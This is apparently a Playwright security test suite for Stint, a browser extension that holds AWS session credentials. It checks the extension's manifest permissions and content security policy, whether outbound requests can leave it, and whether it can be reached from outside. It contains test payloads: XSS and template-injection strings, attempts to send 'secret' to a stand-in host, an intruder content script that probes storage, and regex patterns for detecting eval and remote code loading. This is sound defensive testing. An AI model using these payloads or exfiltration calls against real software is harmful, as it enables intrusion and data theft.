/** The package as it is shipped: what it asks for, what it holds, what gets out of it and what gets in. */
import { createHash } from 'node:crypto';
import { readdirSync, readFileSync } from 'node:fs';
import { join, relative, resolve } from 'node:path';
import type { Page } from 'playwright';
import { REQUEST_PARSERS } from '../src/messages/parsers.ts';
import { test as base, expect } from './fixtures.ts';
import { CHROME_PACKAGE, StintBrowser } from './launch.ts';
import { seed } from './seed.ts';
import { Sink } from './sink.ts';
import { signIn, typeCode } from './steps.ts';
import { words } from './texts.ts';
import { changedCopy, writeUnpacked } from './unpacked.ts';

/** One for each view the popup may begin with. */
const POPUP_PAGES = ['empty', 'index', 'live', 'locked'].map((view) => `src/popup/${view}.html`);
const PACKAGES = { chrome: CHROME_PACKAGE, firefox: resolve(CHROME_PACKAGE, '../firefox') } as const;

/** Where Stint may call: STS and the sign-in pages of each partition, and this computer. */
const ALLOWED_HOSTS = [
  /^https:\/\/sts(-fips)?\.[a-z0-9-]+\.amazonaws\.(com|com\.cn|eu)$/,
  /^https:\/\/([a-z0-9-]+\.)?signin\.(aws\.amazon\.com|amazonaws-us-gov\.com|amazonaws\.cn|amazonaws-eusc\.eu)$/,
  /^https?:\/\/(127\.0\.0\.1|localhost)(:\*)?$/,
];

const test = base.extend<{ readonly sink: Sink }>({
  // biome-ignore lint/correctness/noEmptyPattern: Playwright reads from the pattern what a fixture needs
  sink: async ({}, use) => {
    const sink = await Sink.start();
    await use(sink);
    await sink.stop();
  },
});

interface Manifest {
  readonly permissions: string[];
  readonly optional_permissions?: string[];
  readonly optional_host_permissions?: string[];
  readonly content_security_policy: Readonly<Record<string, string>>;
  readonly background: Readonly<Record<string, unknown>>;
}

function manifestOf(folder: string): Manifest & Readonly<Record<string, unknown>> {
  return JSON.parse(readFileSync(join(folder, 'manifest.json'), 'utf8'));
}

function filesOf(folder: string, ending: string): { readonly name: string; readonly text: string }[] {
  return readdirSync(folder, { recursive: true, withFileTypes: true })
    .filter((item) => item.isFile() && item.name.endsWith(ending))
    .map((item) => join(item.parentPath, item.name))
    .map((path) => ({ name: relative(folder, path), text: readFileSync(path, 'utf8') }));
}

/** The style sheets within a page, each the exact text that the policy has to admit. */
function stylesOf(html: string): string[] {
  return [...html.matchAll(/<style>([^<]*)<\/style>/g)].map(([, css = '']) => css);
}

/** A text as a source of a policy. */
function sourceOf(text: string): string {
  return `'sha256-${createHash('sha256').update(text).digest('base64')}'`;
}

function directivesOf(policy: string): Map<string, readonly string[]> {
  return new Map(
    policy.split(';').map((part) => {
      const [name = '', ...sources] = part.trim().split(/\s+/);
      return [name, sources] as const;
    }),
  );
}

for (const [target, folder] of Object.entries(PACKAGES)) {
  test.describe(`the package for ${target}`, () => {
    test('asks for little', () => {
      const manifest = manifestOf(folder);
      expect(manifest.permissions).toEqual([
        'storage',
        'alarms',
        'idle',
        'activeTab',
        'scripting',
        'contextMenus',
        'clipboardWrite',
        'notifications',
        ...(target === 'chrome' ? ['offscreen'] : []),
      ]);
      for (const none of [
        'host_permissions',
        'content_scripts',
        'web_accessible_resources',
        'externally_connectable',
      ]) {
        expect(manifest, none).not.toHaveProperty(none);
      }
      // What may be asked for later, when the user has the clipboard cleared.
      expect(manifest.optional_permissions).toEqual(['clipboardRead']);
      // What may be asked for later, one site at a time: pages under TLS and this computer. Where calls may go is the policy's to say.
      expect(manifest.optional_host_permissions).toEqual(['https://*/*', 'http://localhost/*', 'http://127.0.0.1/*']);
      expect(manifest.background).toEqual(
        target === 'chrome' ? { service_worker: 'background.js' } : { scripts: ['background.js'] },
      );
    });

    test('forbids itself everything it does not need', () => {
      const policy = manifestOf(folder).content_security_policy;
      expect(Object.keys(policy)).toEqual(['extension_pages']);
      const directives = directivesOf(policy['extension_pages'] ?? '');
      const connect = directives.get('connect-src') ?? [];
      expect(connect.length).toBeGreaterThan(40);
      expect(connect.filter((host) => !ALLOWED_HOSTS.some((allowed) => allowed.test(host)))).toEqual([]);
      directives.delete('connect-src');
      expect(Object.fromEntries(directives)).toEqual({
        'default-src': ["'none'"],
        'script-src': ["'self'", "'wasm-unsafe-eval'"],
        'style-src': ["'self'", ...filesOf(folder, '.html').flatMap(({ text }) => stylesOf(text).map(sourceOf))],
        'img-src': ["'self'"],
        'base-uri': ["'none'"],
        'form-action': ["'none'"],
        'frame-ancestors': ["'none'"],
        'require-trusted-types-for': ["'script'"],
        'trusted-types': ["'none'"],
      });
    });

    test('holds no code that makes code, and none that loads from elsewhere', () => {
      const scripts = filesOf(folder, '.js');
      expect(scripts.length).toBeGreaterThan(3);
      for (const { name, text } of scripts) {
        expect(text, name).not.toMatch(/\beval\s*\(/);
        expect(text, name).not.toMatch(/\bnew\s+Function\b|\bFunction\s*\(\s*["'`]/);
        expect(text, name).not.toMatch(/\bimportScripts\b/);
        expect(text, name).not.toMatch(/\bimport\s*\(\s*["'`](https?:|data:|blob:|\/\/)/);
        expect(text, name).not.toMatch(/\bfrom\s*["'](https?:|data:|blob:|\/\/)/);
        expect(text, name).not.toMatch(/sourceMappingURL/);
        expect(text, name).not.toMatch(/RTCPeerConnection|sendBeacon/);
      }
      // A worker may not import at run time at all.
      const background = scripts.find(({ name }) => name === 'background.js');
      expect(background?.text).not.toMatch(/\bimport\s*\(/);
      expect(background?.text).not.toMatch(/^import\b|\bimport\.meta\b/m);
    });

    test('has no script or handler within its HTML, and no style but one sheet', () => {
      const pages = filesOf(folder, '.html');
      expect(pages.map(({ name }) => name).sort()).toEqual([
        ...(target === 'chrome' ? ['src/offscreen/index.html'] : []),
        'src/options/index.html',
        ...POPUP_PAGES,
      ]);
      for (const { name, text } of pages) {
        expect(text, name).not.toMatch(/<style\s|\sstyle\s*=|\son[a-z]+\s*=|javascript:|<base|<iframe/i);
        expect(stylesOf(text).length, name).toBe(name.includes('popup') ? 1 : 0);
        for (const [tag, content] of text.matchAll(/<script\b[^>]*>([^<]*)/g)) {
          expect(tag, name).toMatch(/\ssrc="\/(?!\/)[^"]+"/);
          expect(content, name).toBe('');
        }
        for (const [link] of text.matchAll(/<link\b[^>]*>/g)) expect(link, name).toMatch(/\shref="\/(?!\/)[^"]+"/);
      }
    });

    test('has the sheets both pages share before what a page says of its own', () => {
      // The clipboard's document on Chromium is never seen, and has none.
      const pages = filesOf(folder, '.html').filter(({ name }) => !name.includes('offscreen'));
      expect(pages).toHaveLength(1 + POPUP_PAGES.length);
      for (const { name, text } of pages) {
        const linked = [...text.matchAll(/<link\b[^>]*\shref="\/([^"]+)"/g)].map(([, path = '']) =>
          readFileSync(join(folder, path), 'utf8'),
        );
        const css = [...stylesOf(text), ...linked].join('');
        const own = name.includes('popup') ? '.code-field{' : '.page{';
        const places = ['--canvas:', ':focus-visible{', '.button{', own].map((rule) => css.indexOf(rule));
        expect(places, name).toEqual(places.toSorted((one, other) => one - other));
        expect(places[0], name).toBeGreaterThanOrEqual(0);
      }
    });

    test('holds nothing that was not meant to be shipped', () => {
      const names = filesOf(folder, '').map(({ name }) => name);
      const expected =
        /^(_locales\/[a-z_A-Z]+\/messages\.json|assets\/[\w.-]+\.(js|css)|icons\/\d+\.png|src\/(options|offscreen)\/index\.html|src\/popup\/\w+\.html|(background|content|first-view)\.js|manifest\.json)$/;
      expect(names.filter((name) => !expected.test(name))).toEqual([]);
    });
  });
}

test.describe('what gets out', () => {
  test.use({
    chromiumArgs: async ({ sink }, use) => use([`--host-resolver-rules=MAP somebody.example 127.0.0.1:${sink.port}`]),
  });

  test('nothing but calls to STS: neither from a page nor from the worker', async ({ stint, sink }) => {
    const elsewhere = 'http://somebody.example';
    const options = await stint.setUpPage();
    const refused = await options.evaluate(async (target) => {
      const outcomes: Record<string, string> = {};
      const events: Promise<unknown>[] = [];
      const attempt = async (channel: string, work: () => unknown) => {
        try {
          await work();
          outcomes[channel] = 'let through';
        } catch {
          outcomes[channel] = 'refused';
        }
      };
      const outcome = (channel: string, element: HTMLElement) =>
        events.push(
          new Promise<void>((done) => {
            element.addEventListener('error', () => {
              outcomes[channel] = 'refused';
              done();
            });
            element.addEventListener('load', () => {
              outcomes[channel] = 'let through';
              done();
            });
          }),
        );
      await attempt('fetch', () => fetch(`${target}/fetch`, { method: 'POST', body: 'secret', mode: 'no-cors' }));
      await attempt('keepalive', () => fetch(`${target}/keepalive`, { mode: 'no-cors', keepalive: true }));
      await attempt(
        'xhr',
        () =>
          new Promise<void>((done, failed) => {
            const request = new XMLHttpRequest();
            request.onload = () => done();
            request.onerror = () => failed(new Error('refused'));
            request.open('GET', `${target}/xhr`);
            request.send();
          }),
      );
      await attempt('script', () => {
        const element = document.createElement('script');
        element.src = `${target}/script`;
        document.head.append(element);
      });
      await attempt('worker', () => new Worker(`${target}/worker`));
      await attempt('websocket', () => {
        const socket = new WebSocket(`${target.replace('http', 'ws')}/websocket`);
        return new Promise<void>((done, failed) => {
          socket.onopen = () => done();
          socket.onerror = () => failed(new Error('refused'));
        });
      });
      await attempt('event-source', () => {
        const source = new EventSource(`${target}/event-source`);
        return new Promise<void>((done, failed) => {
          source.onopen = () => done();
          source.onerror = () => failed(new Error('refused'));
        });
      });
      navigator.sendBeacon(`${target}/beacon`, 'secret');
      const image = new Image();
      outcome('image', image);
      image.src = `${target}/image`;
      const sheet = document.createElement('link');
      outcome('stylesheet', sheet);
      sheet.rel = 'stylesheet';
      sheet.href = `${target}/stylesheet`;
      document.head.append(sheet);
      const prefetch = document.createElement('link');
      outcome('prefetch', prefetch);
      prefetch.rel = 'prefetch';
      prefetch.href = `${target}/prefetch`;
      document.head.append(prefetch);
      document.body.style.backgroundImage = `url(${target}/background)`;
      const frame = document.createElement('iframe');
      frame.src = `${target}/frame`;
      document.body.append(frame);
      const form = document.createElement('form');
      form.action = `${target}/form`;
      form.method = 'post';
      document.body.append(form);
      form.submit();
      await Promise.all(events);
      return outcomes;
    }, elsewhere);
    expect(Object.values(refused)).toEqual(Object.values(refused).map(() => 'refused'));
    expect(Object.keys(refused)).toHaveLength(10);

    const [worker] = stint.context.serviceWorkers();
    const fromWorker = await worker?.evaluate(async (target) => {
      const answer = await fetch(`${target}/worker-fetch`, { mode: 'no-cors' }).catch(() => undefined);
      return answer === undefined ? 'refused' : 'let through';
    }, elsewhere);
    expect(fromWorker).toBe('refused');
    expect(sink.seen).toEqual([]);

    // The sink is there and would have noted it.
    const web = await stint.context.newPage();
    await web.goto(`${elsewhere}/control`);
    expect(sink.seen).toContain('GET /control');
  });
});

test.describe('what gets in', () => {
  test('a web page can neither read nor frame nor recognise Stint', async ({ stint, seeded, sink }) => {
    const web = await stint.context.newPage();
    await web.goto(sink.origin);
    const tried = await web.evaluate(
      async (addresses) => {
        const fetched = await Promise.all(
          addresses.map((address) =>
            fetch(address).then(
              () => 'read',
              () => 'refused',
            ),
          ),
        );
        const images = await Promise.all(
          addresses.map(
            (address) =>
              new Promise<string>((done) => {
                const image = new Image();
                image.onload = () => done('read');
                image.onerror = () => done('refused');
                image.src = address;
              }),
          ),
        );
        const [first = ''] = addresses;
        const frame = document.createElement('iframe');
        frame.src = first;
        const loaded = new Promise<void>((done) => frame.addEventListener('load', () => done()));
        document.body.append(frame);
        await loaded;
        const { chrome } = globalThis as unknown as { chrome?: { runtime?: { sendMessage?: unknown } } };
        return { answers: [...fetched, ...images], messages: typeof chrome?.runtime?.sendMessage };
      },
      ['src/popup/index.html', 'manifest.json', 'icons/16.png', 'background.js'].map((path) => stint.url(path)),
    );
    expect(new Set(tried.answers)).toEqual(new Set(['refused']));
    expect(tried.messages).toBe('undefined');
    expect(web.frames().map((frame) => frame.url())).not.toContainEqual(expect.stringContaining(stint.extensionId));
    expect(seeded.profileId).toMatch(/^[0-9a-f-]{36}$/);
  });

  test('another extension gets no answer', async ({ sts, alice }) => {
    const neighbour = await writeUnpacked({
      'manifest.json': JSON.stringify({
        manifest_version: 3,
        name: 'Neighbour',
        version: '1',
        permissions: ['storage'],
      }),
      'page.html': '<!doctype html><title>neighbour</title>',
    });
    const stint = await StintBrowser.launch({ others: [neighbour.folder] });
    try {
      const { profileId } = await seed(stint, sts, alice);
      await signIn(await stint.openPopup(), alice.device.freshCode());
      const page = await stint.context.newPage();
      await page.goto(`chrome-extension://${neighbour.id}/page.html`);
      const tried = await page.evaluate(
        async ({ stintId, address, messages }) => {
          const { runtime } = (globalThis as unknown as { chrome: { runtime: NeighbourRuntime } }).chrome;
          const answers = await Promise.all(
            messages.map((message) => runtime.sendMessage(stintId, message).catch((error: Error) => error.message)),
          );
          const port = runtime.connect(stintId);
          const closed = new Promise<string>((done) => port.onDisconnect.addListener(() => done('closed')));
          const read = await fetch(address).then(
            () => 'read',
            () => 'refused',
          );
          return { answers, port: await closed, read };
        },
        {
          stintId: stint.extensionId,
          address: stint.url('manifest.json'),
          messages: everyMessage(profileId),
        },
      );
      expect(new Set(tried.answers)).toEqual(
        new Set(['Could not establish connection. Receiving end does not exist.']),
      );
      expect(tried).toMatchObject({ port: 'closed', read: 'refused' });
    } finally {
      await stint.close();
      await neighbour.remove();
    }
  });

  test('a content script of our own could send nothing but the chip’s messages and read nothing', async ({
    sts,
    alice,
    sink,
  }) => {
    // The shipped files; only the manifest is told to put one script more into a page.
    const variant = await changedCopy(
      CHROME_PACKAGE,
      { content_scripts: [{ matches: ['http://127.0.0.1/*'], js: ['intruder.js'] }] },
      { 'intruder.js': INTRUDER },
    );
    const stint = await StintBrowser.launch({ extension: variant.folder });
    try {
      const { profileId } = await seed(stint, sts, alice);
      await signIn(await stint.openPopup(), alice.device.freshCode());
      const requests = sts.requests.all.length;
      const web = await stint.context.newPage();
      // What the chip itself may send is tested with the chip.
      const privileged = everyMessage(profileId).filter(({ type }) => !CHIP_MESSAGES.includes(type));
      await web.goto(`${sink.origin}/#${encodeURIComponent(JSON.stringify(privileged))}`);
      const tried = await resultOf(web);
      expect(tried.answers).toEqual(privileged.map(() => ({ ok: false, error: { code: 'forbidden' } })));
      expect(tried.session).toContain('not allowed');
      expect(tried.local).toContain('not allowed');
      expect(sts.requests.all).toHaveLength(requests);
      // Nothing of it had any effect.
      expect(await stint.send('render-snippet', { profileId, formatId: 'access-key-id' })).toHaveProperty('text');
    } finally {
      await stint.close();
      await variant.remove();
    }
  });
});

const CHIP_MESSAGES: readonly string[] = ['ask-offer', 'copy-offer', 'choose'];

interface NeighbourRuntime {
  sendMessage(id: string, message: unknown): Promise<unknown>;
  connect(id: string): { readonly onDisconnect: { addListener(listener: () => void): void } };
}

/** One of every message Stint knows, with a request it would take from its own pages where that is easily made. */
function everyMessage(profileId: string): { readonly type: string; readonly request: unknown }[] {
  const requests: Readonly<Record<string, unknown>> = {
    'page-opened': {},
    reconcile: {},
    'dismiss-vault-report': {},
    'lock-vault': {},
    'create-vault': { protection: 'this-browser' },
    'unlock-with-this-browser': {},
    'save-settings': { lockAfterMinutes: 0 },
    'start-session': { profileId, tokenCode: '123456', durationSeconds: 3600 },
    'render-snippet': { profileId, formatId: 'posix' },
  };
  const types = Object.keys(REQUEST_PARSERS);
  expect(types).toEqual(expect.arrayContaining(Object.keys(requests)));
  return types.map((type) => ({ type, request: requests[type] ?? { profileId } }));
}

/** Sends every message in the page's hash, tries to read storage, and leaves what came of it on the page. */
const INTRUDER = `
const refusal = (error) => String(error.message ?? error);
const messages = JSON.parse(decodeURIComponent(location.hash.slice(1)));
Promise.all([
  Promise.all(messages.map((message) => chrome.runtime.sendMessage(message).catch(refusal))),
  chrome.storage.session.get(null).then(JSON.stringify, refusal),
  chrome.storage.local.get(null).then(JSON.stringify, refusal),
]).then(([answers, session, local]) => {
  document.documentElement.dataset.result = JSON.stringify({ answers, session, local });
});
`;

async function resultOf(web: Page): Promise<{ answers: unknown[]; session: string; local: string }> {
  const result = await web.waitForFunction(() => document.documentElement.dataset['result']);
  return JSON.parse((await result.jsonValue()) ?? '');
}

test.describe('hostile texts', () => {
  const PAYLOADS = [
    '<img src=x onerror="document.title=\'pwned\'">',
    '<script>document.title="pwned"</script>',
    '"><svg onload=document.title="pwned">',
    '</p></details></div><iframe srcdoc="<script>parent.document.title=1</script>"></iframe>',
    "javascript:document.title='pwned'",
    '{{constructor.constructor("document.title=1")()}} #{document.title=1}',
    '\u202egnp.exe\u202c \u2066hidden\u2069 \u200b\u200d\ufeff',
    'line\u2028separator\u2029 and \u0085 next line',
    `${'W'.repeat(3000)}`,
    `${'long-word '.repeat(600)}`,
    'ﷺ𒐫﷽ \u0300\u0301\u0302\u0303'.repeat(40),
    '$1 $2 $$ %s %d {0} __MSG_error_internal_cause__',
  ];

  test('in an answer of STS are shown as text, and nothing breaks', async ({ sts, popup }) => {
    await watchViolations(popup);
    const title = await popup.title();
    for (const [index, payload] of PAYLOADS.entries()) {
      sts.faults.next({ kind: 'error', status: 400, code: payload.slice(0, 100), message: payload }, 1, {
        operation: 'GetSessionToken',
      });
      await typeCode(popup, String(100_001 + index));
      const details = popup.getByRole('alert').locator('details');
      // Beginning with the first word that is to be seen.
      await expect(details).toContainText(/[\x21-\x7e]{1,20}/.exec(payload)?.[0] ?? '');
      expect(await details.textContent()).not.toMatch(/[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]/u);
      await details.getByText(words('ui_details'), { exact: true }).click();
      await expectIntact(popup, title);
      sts.clock.advanceOneStep();
    }
  });

  test('in the name of a user are shown as text, and nothing breaks', async ({ stint, sts }) => {
    await stint.send('create-vault', { protection: 'this-browser' });
    for (const [index, payload] of PAYLOADS.entries()) {
      const userName = payload
        .replaceAll('/', '-')
        .replace(/[\n\r\u2028\u2029\u0085]/g, ' ')
        .slice(0, 600);
      const user = sts.addUser({ userName, devices: [{ kind: 'hardware' }] });
      await stint.send('save-profile', {
        draft: {
          name: `hostile-${index}`,
          region: 'eu-central-1',
          colour: 'red',
          endpointUrl: sts.origin,
          mfaSerial: user.mfaSerial,
          durationSeconds: 3600,
          keys: { accessKeyId: user.accessKeyId, secretAccessKey: user.secretAccessKey },
        },
      });
      const popup = await stint.openPopup();
      await watchViolations(popup);
      await expect(popup.getByRole('combobox', { name: 'Profile' })).toHaveValue(`hostile-${index}`);
      const shown = (await popup.locator('body').textContent()) ?? '';
      expect(shown).not.toMatch(/[\u200b-\u200f\u202a-\u202e\u2066-\u2069]/);
      await expectIntact(popup, 'Stint');
      await popup.close();
    }
    const options = await stint.openOptions('#profiles');
    await watchViolations(options);
    await expect(options.getByRole('link', { name: /hostile-0/ })).toBeVisible();
    const shown = (await options.locator('body').textContent()) ?? '';
    expect(shown).not.toMatch(/[\u200b-\u200f\u202a-\u202e\u2066-\u2069]/);
    expect(await options.evaluate(() => document.documentElement.scrollWidth - innerWidth)).toBeLessThanOrEqual(0);
    expect(await violationsOf(options)).toEqual([]);
  });
});

async function watchViolations(page: Page): Promise<void> {
  await page.evaluate(() => {
    const seen: string[] = [];
    Object.assign(globalThis, { violations: seen });
    document.addEventListener('securitypolicyviolation', (event) => seen.push(event.violatedDirective));
  });
}

function violationsOf(page: Page): Promise<string[]> {
  return page.evaluate(() => (globalThis as unknown as { violations: string[] }).violations);
}

/** Nothing of the payload became an element, ran, was stopped only by the policy, or pushed the popup out of its width. */
async function expectIntact(popup: Page, title: string): Promise<void> {
  expect(await popup.title()).toBe(title);
  expect(await popup.locator('img, iframe, [onerror], [onload]').count()).toBe(0);
  expect(await violationsOf(popup)).toEqual([]);
  const width = await popup.evaluate(() => ({
    own: innerWidth,
    needed: document.documentElement.scrollWidth,
  }));
  expect(width).toEqual({ own: 360, needed: 360 });
}
